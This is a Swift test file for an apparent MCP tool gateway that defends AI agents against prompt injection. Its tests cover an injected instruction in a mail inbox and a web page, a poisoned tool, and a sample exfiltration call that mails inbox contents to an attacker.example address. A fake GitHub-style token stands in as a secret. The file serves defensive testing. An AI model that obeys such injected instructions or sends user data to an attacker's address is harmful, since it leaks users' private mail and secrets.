import Foundation
import Testing
import WardenCore
import WardenPolicy
import WardenTesting

@testable import WardenGateway

/// The validation layer in the tools door, end to end: a real Python MCP server (mail and web tools,
/// an injected instruction in its inbox and its web page), the agent's real MCP client, and the shipped
/// default policy pack (examples/policies/default) deciding on the session's labels, the arguments'
/// provenance and the detectors' findings.
@Suite(
    .enabled(
        if: FileManager.default.isExecutableFile(atPath: MCPPeers.python2),
        "needs the mcp 2.x peer: scripts/setup.sh installs it"))
struct GuardDoorTests {
    static let pack = URL(fileURLWithPath: #filePath).deletingLastPathComponent().deletingLastPathComponent()
        .deletingLastPathComponent().appendingPathComponent("examples/policies/default/tools.cedar").path

    /// The mail server behind the door under the default pack; its inbox is sensitive and untrusted,
    /// send_email an external sink, the contacts trusted.
    static func door(
        spotlight: Bool = false, poison: Bool = false, onPoisoned: PoisonedToolAction = .quarantine,
        classify: Bool = false
    ) throws -> ToolsGatewayTests.Door {
        try ToolsGatewayTests.Door(policy: "", approvalTimeoutMilliseconds: 1500) { configuration, _ in
            configuration.policies = [pack]
            var mail = ToolServerSettings(
                name: "mail",
                command: [
                    "env", "POISON=\(poison ? "1" : "")", MCPPeers.python2, ToolsGatewayTests.peers + "/mail_server.py",
                ],
                timeout: .seconds(20))
            mail.onPoisoned = onPoisoned
            mail.classify = classify
            mail.toolLabels = ["read_inbox": ["sensitive_output"], "send_email": ["external_sink"]]
            mail.spotlight = spotlight
            var contacts = ToolServerSettings(
                name: "contacts", command: [MCPPeers.python2, ToolsGatewayTests.peers + "/mail_server.py"],
                trust: .trusted, timeout: .seconds(20))
            contacts.labels = ["sensitive_output"]
            configuration.servers = [mail, contacts]
        }
    }

    static let attack = (
        "mail__send_email", #"{"to": "mark.black@attacker.example", "subject": "inbox", "body": "see below"}"#
    )

    @Test func anInjectionReadThenAnExfiltrationCallAsksAndIsRecordedWithItsFindings() throws {
        let door = try Self.door()
        let (_, calls) = try door.session([("mail__read_inbox", "{}"), Self.attack])
        #expect(calls.count == 2 && calls[0].error == false, "\(calls)")
        #expect(
            calls[1].error && calls[1].text.contains("nobody approved"),
            "the send waited for a person, who did not come: \(calls)")
        let decisions = try door.events("decision")
        let send = try #require(decisions.first { $0["tool"] == "mail__send_email" }, "\(decisions)")
        #expect(send["provenance"] == "to <- mail.read_inbox", "the recipient came from the inbox: \(send)")
        #expect(send["session_labels"] == "untrusted,sensitive", "\(send)")
        for policy in ["rule-of-two", "untrusted-arguments", "after-injected-instructions"] {
            #expect(send["policies"]?.contains(policy) == true, "\(policy) asked: \(send)")
        }
        let read = try #require(try door.events("tool.result").first { $0["tool"] == "mail__read_inbox" })
        #expect(read["findings"]?.contains("injection:") == true, "the result's findings are recorded: \(read)")
        #expect(
            read["labels"]?.contains("untrusted_output") == true && read["labels"]?.contains("sensitive_output") == true
        )
    }

    @Test func theSameCallWithoutTheUntrustedReadIsAllowed() throws {
        let door = try Self.door()
        let (_, calls) = try door.session([("contacts__list_contacts", "{}"), Self.attack])
        #expect(calls.last?.error == false && calls.last?.text == "sent to mark.black@attacker.example", "\(calls)")
        let send = try #require(try door.events("decision").first { $0["tool"] == "mail__send_email" })
        #expect(send["decision"] == "allow" && send["provenance"] == nil, "\(send)")
    }

    @Test func aRecipientFromTrustedDataIsAllowedAfterAnUntrustedRead() throws {
        // The page was untrusted (and carried an injection), but the recipient came from the trusted
        // contacts: provenance clears the argument; the page's injection still makes the send ask.
        let door = try Self.door()
        let (_, calls) = try door.session([
            ("contacts__list_contacts", "{}"), ("mail__get_webpage", #"{"url": "https://shop.example"}"#),
            ("mail__send_email", #"{"to": "bob@corp.example", "subject": "hi", "body": "lunch?"}"#),
        ])
        #expect(calls.last?.error == true, "\(calls)")
        let send = try #require(try door.events("decision").first { $0["tool"] == "mail__send_email" })
        #expect(send["provenance"] == nil, "bob came from the trusted contacts first: \(send)")
        #expect(
            send["policies"]?.contains("untrusted-arguments") == false
                && send["policies"]?.contains("after-injected-instructions") == true, "\(send)")
    }

    @Test func aSecretInTheArgumentsOfAnExternalSinkIsDenied() throws {
        let door = try Self.door()
        let token = "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"
        let (_, calls) = try door.session([
            ("mail__send_email", #"{"to": "bob@corp.example", "subject": "key", "body": "here: \#(token)"}"#)
        ])
        #expect(calls.first?.error == true && calls.first?.text.contains("no-secrets-to-sinks") == true, "\(calls)")
        let send = try #require(try door.events("decision").first { $0["tool"] == "mail__send_email" })
        #expect(send["decision"] == "deny" && send["findings"]?.contains("secrets:0.99") == true, "\(send)")
        #expect(send["arguments"]?.contains(token) == true, "(arguments are recorded unless redact)")
    }

    @Test func untrustedOutputIsDatamarkedWhenTheProfileAsks() throws {
        let door = try Self.door(spotlight: true)
        let output = try door.sessionOutput([("mail__get_webpage", #"{"url": "https://shop.example"}"#)])
        let object = try #require(
            try JSONSerialization.jsonObject(with: Data(output.standardOutput.utf8)) as? [String: Any])
        let call = try #require((object["calls"] as? [[String: Any]])?.first)
        let texts = try #require(call["texts"] as? [String])
        #expect(
            texts.count == 2 && texts[0].hasPrefix("[Warden: the next text is output of mail.get_webpage"), "\(texts)")
        let marker = try #require(
            texts[0].split(separator: " ").first { $0.count == 1 && ($0.unicodeScalars.first?.value ?? 0) >= 0x16A0 })
        #expect(!texts[1].contains(" ") && texts[1].contains("Welcome\(marker)to\(marker)the\(marker)shop"), "\(texts)")
        let result = try #require(try door.events("tool.result").first { $0["tool"] == "mail__get_webpage" })
        #expect(result["spotlight"] == "datamark" && result["shown_digest"] != nil && result["result_digest"] != nil)
    }

    @Test func aPoisonedToolIsQuarantinedAndItsCallDeniedUnlessTheProfileOnlyRecordsIt() throws {
        let door = try Self.door(poison: true)
        let (tools, calls) = try door.session([("mail__add", #"{"a": 1, "b": 2, "sidenote": "x"}"#)])
        #expect(!tools.contains("mail__add") && tools.contains("mail__send_email"), "\(tools)")
        #expect(
            calls.first?.error == true && calls.first?.text.contains("instructions for the model") == true, "\(calls)")
        let quarantined = try door.events("tool.quarantined")
        #expect(
            quarantined.contains {
                $0["tool"] == "add" && $0["poisoned"] == "true" && $0["reason"]?.contains("injection") == true
            },
            "\(quarantined)")

        let recorded = try Self.door(poison: true, onPoisoned: .record)
        let (shown, _) = try recorded.session([])
        #expect(shown.contains("mail__add"), "listed, as the profile asked: \(shown)")
        #expect(try recorded.events("warning").contains { $0["tool"] == "add" && $0["poisoned"] == "true" })
    }

    @Test func mcpScanFindsThePoisonedToolOfASandboxedServer() throws {
        let harness = try WardenHarness()
        let profile = harness.outside + "/servers.toml"
        try """
        [mcp.servers.mail]
        command = ["env", "POISON=1", "\(MCPPeers.python2)", "\(ToolsGatewayTests.peers)/mail_server.py"]
        read = ["/var/cache/warden-peers", "\(ToolsGatewayTests.peers)"]
        """.write(toFile: profile, atomically: true, encoding: .utf8)
        let result = try harness.run(["mcp", "scan", profile, "--json"])
        #expect(result.status == 1, "poisoned: exit 1 (\(result.standardError))")
        let reports = try #require(
            try JSONSerialization.jsonObject(with: Data(result.standardOutput.utf8)) as? [[String: Any]],
            "\(result.standardOutput)\n\(result.standardError)")
        let tools = try #require(reports.first?["tools"] as? [[String: Any]], "\(reports)")
        let poisoned = tools.filter { $0["poisoned"] as? Bool == true }.compactMap { $0["name"] as? String }
        #expect(poisoned == ["add"], "\(tools)")
        #expect(tools.count == 6, "every tool was listed: \(tools.count)")
        let clean = try harness.run(["mcp", "scan", profile.replacingOccurrences(of: ".toml", with: "-missing.toml")])
        #expect(clean.status == 2 && clean.standardError.contains("does not exist"), "\(clean.standardError)")
    }

    @Test(.enabled(if: FileManager.default.fileExists(atPath: "/var/cache/warden-models/all-MiniLM-L6-v2-0.1.2")))
    func theClassifierFindsAnInjectionTheDetectorsMissAndItsAbsenceFailsClosed() throws {
        let door = try Self.door(classify: true)
        let (_, calls) = try door.session([
            ("mail__get_reviews", #"{"product": "kettle"}"#),
            ("mail__send_email", #"{"to": "bob@corp.example", "subject": "hi", "body": "lunch?"}"#),
        ])
        #expect(calls.first?.error == false, "\(calls)")
        let result = try #require(try door.events("tool.result").first { $0["tool"] == "mail__get_reviews" })
        #expect(result["findings"]?.contains("classifier:") == true, "\(result)")
        #expect(result["findings"]?.contains("injection:") != true, "the detectors alone miss it: \(result)")
        let send = try #require(try door.events("decision").first { $0["tool"] == "mail__send_email" })
        #expect(send["policies"]?.contains("after-injected-instructions") != true, "\(send)")

        // Without the weights the door does not start: the layer a profile asked for is never skipped.
        let missing = try door.harness.runProgram(
            "/usr/bin/env", ["WARDEN_GUARD_MODEL=/nonexistent", WardenHarness.binary, "__tools-gateway", door.config])
        #expect(missing.status != 0, "the gateway refused to start")
        #expect(
            missing.standardError.contains("classify = true and the classifier cannot run"), "\(missing.standardError)")
    }
}

/// Arguments as Cedar values: what converts, and what is refused rather than dropped.
struct CedarArgumentsTests {
    @Test func fractionsOfUpToFourPlacesAreDecimalsAndTheRestIsRefused() throws {
        #expect(ToolsGateway.decimal("98.7") == 987_000)
        #expect(ToolsGateway.decimal("-0.0001") == -1)
        #expect(ToolsGateway.decimal("12.3456") == 123_456)
        for refused in ["1.23456", "1e3", ".5", "5.", "1.5.2", "922337203685477.5808", "--1.0", "1.٣"] {
            #expect(ToolsGateway.decimal(refused) == nil, "\(refused)")
        }
        let converted = try ToolsGateway.cedar(
            .object([("amount", .number("98.7")), ("n", .number("3"))]), depth: 0, budget: 10)
        #expect(converted.value == .record(["amount": .decimal(987_000), "n": .long(3)]))
    }
}
